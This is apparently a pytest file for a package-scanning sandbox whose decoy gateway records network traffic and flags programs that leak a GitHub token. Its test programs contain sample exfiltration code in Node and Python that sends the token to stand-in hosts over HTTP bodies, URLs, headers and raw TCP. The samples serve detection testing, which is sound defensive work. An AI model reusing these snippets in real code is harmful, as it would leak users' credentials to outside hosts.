"""How connections end: no program is held by an answer that it does not read, and what it sends late is seen."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from package_hunter.decoy.gateway import Gateway
from package_hunter.decoy.spec import Limits, Upstream
from package_hunter.model.observation import NetworkLog
from package_hunter.model.registry import RegistryAllow
from tests.support.netpair import NetPair
from tests.support.played import ENV, LocalRegistry
from tests.support.requires import needs_program

Start = Callable[..., Gateway]
TOKEN = ENV["GITHUB_TOKEN"]
SECONDS = 40  # less than any wait of a connection that is kept, far more than those that end
QUICK = Limits(idle_seconds=0.2, unfinished_seconds=0.5)

_PYTHON = (
    f"""SECONDS = {SECONDS}"""
    + """
import os, socket, ssl, sys, time
token = os.environ["GITHUB_TOKEN"].encode()
def plain(port=80, host="192.0.2.9"):
    s = socket.create_connection((host, port)); s.settimeout(SECONDS); return s
def tls():
    return ssl.create_default_context(cafile=os.environ["CURL_CA_BUNDLE"]).wrap_socket(
        plain(443), server_hostname="end.example")
def to_end(s):
    got = b""
    while more := s.recv(65536):
        got += more
    return got
def post(body, length=None):
    length = len(body) if length is None else length
    return b"POST /x HTTP/1.1\\r\\nHost: end.example\\r\\nContent-Length: %d\\r\\n\\r\\n" % length + body
"""
)


def play(pair: NetPair, gateway: Gateway, tmp_path: Path, program: str, name: str = "forget.py") -> str:
    """What a program in the box prints; it must end by itself."""
    (tmp_path / name).write_text(_PYTHON + program if name.endswith(".py") else program)
    ca = {"CURL_CA_BUNDLE": str(gateway.names_path.parent / "ca.pem"), **ENV}
    ca["NODE_EXTRA_CA_CERTS"] = ca["CURL_CA_BUNDLE"]
    with_ = "python3" if name.endswith(".py") else "node"
    done = pair.run(f"{with_} {tmp_path / name}", ca, timeout=SECONDS)
    assert done.returncode == 0, done.stderr
    return done.stdout


def stolen(log: NetworkLog) -> set[tuple[str, str]]:
    assert "gateway_errors" not in log.cut
    return {(hit.channel, hit.destination) for hit in log.hits if not hit.lawful}


@pytest.mark.parametrize(
    "program",
    [
        "require('http').request({host:'w.example',method:'POST',path:'/x'},()=>{}).end(process.env.GITHUB_TOKEN)",
        "require('https').get('https://w.example/x?' + process.env.GITHUB_TOKEN, () => {})",
        "const http = require('http'), agent = new http.Agent({keepAlive: true, maxSockets: 1});"
        "for (let i = 0; i < 3; i++)"
        " http.get({host: 'w.example', agent, path: '/' + i + process.env.GITHUB_TOKEN}, r => i && r.resume());",
        "const r = require('http').request({host:'w.example',method:'POST'});"
        "r.on('error', () => {}); r.write(process.env.GITHUB_TOKEN)",
        "require('net').connect(9000, 'w.example', function () { this.write(process.env.GITHUB_TOKEN) })"
        ".on('data', () => {})",
        "require('http').get({host: 'w.example', headers: {connection: 'Upgrade', upgrade: 'websocket',"
        " 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-version': 13,"
        " x: process.env.GITHUB_TOKEN}}, () => {})",
    ],
    ids=["post", "tls", "agent", "no-end", "raw", "upgrade"],
)
def test_a_program_that_reads_no_answer_ends(
    pair: NetPair, gateway: Start, tmp_path: Path, program: str
) -> None:
    needs_program("node")
    g = gateway()
    play(pair, g, tmp_path, program, "forget.js")
    assert {where.partition(":")[0] for _, where in stolen(g.stop())} == {"w.example"}


def test_a_stranger_hears_the_end_after_the_answer_and_after_silence(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    g = gateway()
    said = play(
        pair,
        g,
        tmp_path,
        """
for s, sent in ((plain(), post(b"a")), (tls(), post(b"a")), (plain(), post(b"a", 9)), (plain(4444), b"hi"),
                (plain(), b"GET / HT"), (plain(8443), b"\\x16\\x03"), (plain(53), b"\\x00"), (plain(), b"BAD\\r\\n")):
    s.sendall(sent)
    print(to_end(s)[:12])
""",
    )
    assert said.splitlines()[:2] == ["b'HTTP/1.1 200'"] * 2
    assert len(said.splitlines()) == 8
    assert len(g.stop().connections) == 8


def test_a_registrys_client_may_be_silent_at_first_and_is_told_no_strangers_words(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    """As a busy package manager is, between connecting and TLS, and between TLS and its question."""
    g = gateway(upstreams=(Upstream("npm", "https://registry.example/"),), offline=True)
    said = play(
        pair,
        g,
        tmp_path,
        """
ask = b"GET /a HTTP/1.1\\r\\nHost: registry.example\\r\\nConnection: close\\r\\n\\r\\n"
held = [plain(443, "registry.example"), plain(80, "registry.example"), plain(4444, "stranger.example")]
time.sleep(3)
print(held[2].recv(64) != b"")  # a stranger's silent client is a shell that waits for its orders
context = ssl.create_default_context(cafile=os.environ["CURL_CA_BUNDLE"])
held[0] = context.wrap_socket(held[0], server_hostname="registry.example")
time.sleep(4)
for s in held[:2]:
    s.sendall(ask)
    print(to_end(s)[:8])
""",
    )
    assert said.split() == ["True", "b'HTTP/1.1'", "b'HTTP/1.1'"]
    assert [c.kind for c in g.stop().connections if c.name == "registry.example"] == ["http", "http"]


def test_what_comes_after_the_end_is_still_searched(pair: NetPair, gateway: Start, tmp_path: Path) -> None:
    g = gateway(limits=QUICK)
    play(
        pair,
        g,
        tmp_path,
        """
for s in (plain(), tls()):
    s.sendall(post(b"first"))
    time.sleep(1)
    s.sendall(post(token))
    s.close()
s = plain()
s.sendall(post(b"one") + post(b"two") + post(token))
print(to_end(s).count(b"HTTP/1.1 200"))
s = plain(4444)
s.sendall(b"hello"); to_end(s); time.sleep(1); s.sendall(token); s.close()
s = plain(8080)
s.sendall(b"GET / HTTP/1.1\\r\\nno header\\r\\n\\r\\n"); to_end(s); s.sendall(token); s.close()
s = plain(8081)
s.sendall(b"GET /" + token); s.close()
s = plain(53)
s.sendall(b"\\x00\\x40" + token); s.close()
time.sleep(1)
""",
    )
    log = g.stop()
    urls = [(r.url, r.body) for r in log.requests]
    assert urls.count(("http://end.example/x", TOKEN.encode())) == 2
    assert ("https://end.example/x", TOKEN.encode()) in urls
    assert stolen(log) == {
        ("http-body", "192.0.2.9:80"),
        ("http-body", "end.example:443"),
        ("tcp", "192.0.2.9:4444"),
        ("tcp", "192.0.2.9:8080"),
        ("tcp", "192.0.2.9:8081"),
        ("tcp", "192.0.2.9:53"),
    }


def test_slow_senders_are_heard_out(pair: NetPair, gateway: Start, tmp_path: Path) -> None:
    g = gateway(limits=QUICK)
    said = play(
        pair,
        g,
        tmp_path,
        """
def slowly(s, data, pause, step):
    for at in range(0, len(data), step):
        s.sendall(data[at:at + step]); time.sleep(pause)
    return s
print(to_end(slowly(plain(), post(token), 0.25, 16))[:12])
slowly(plain(81), post(token), 1.2, 60).close()
slowly(plain(4444), token, 0.6, 12).close()
time.sleep(0.5)
""",
    )
    assert said == "b'HTTP/1.1 200'\n"  # pauses shorter than the wait: answered
    assert stolen(g.stop()) == {
        ("http-body", "192.0.2.9:80"),
        ("http-body", "192.0.2.9:81"),
        ("tcp", "192.0.2.9:4444"),
    }


def test_what_is_under_way_at_the_scans_end_is_searched(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    g = gateway()
    play(
        pair,
        g,
        tmp_path,
        """
import subprocess
left = [plain(), plain(), tls()]
left[0].sendall(post(token, 9999))
left[1].sendall(b"GET / HTTP/1.1\\r\\nX-Key: " + token)
left[2].sendall(b"PUT /" + token + b" HTTP/1.1\\r\\nHost: end.example\\r\\nContent-Length: 9\\r\\n\\r\\n")
time.sleep(0.5)
quiet = subprocess.DEVNULL
subprocess.Popen(["sleep", "5"], pass_fds=[s.fileno() for s in left], stdout=quiet, stderr=quiet)
""",
    )
    log = g.stop()
    assert stolen(log) == {
        ("http-body", "192.0.2.9:80"),
        ("tcp", "192.0.2.9:80"),
        ("http-url", "end.example:443"),
    }
    assert {(r.method, r.status) for r in log.requests} == {("POST", 400), ("PUT", 400)}


def test_only_a_registrys_connection_is_kept(
    pair: NetPair, gateway: Start, registry: Callable[..., LocalRegistry]
) -> None:
    local = registry({"a": {"1.0.0": {}}})
    g = gateway(upstreams=(Upstream("npm", local.url),))
    g.allow(RegistryAllow("npm", frozenset({"a"})))
    twice = "curl -sS -o /dev/null -o /dev/null -w '%{http_code}/%{num_connects} '"
    done = pair.run(
        f"{twice} -A npm/10.9.0 -H 'Host: 127.0.0.1' http://192.0.2.5/a http://192.0.2.5/a;"
        f"{twice} http://other.example/a http://other.example/b"
    )
    assert done.stdout.split() == ["200/1", "200/0", "200/1", "200/1"]
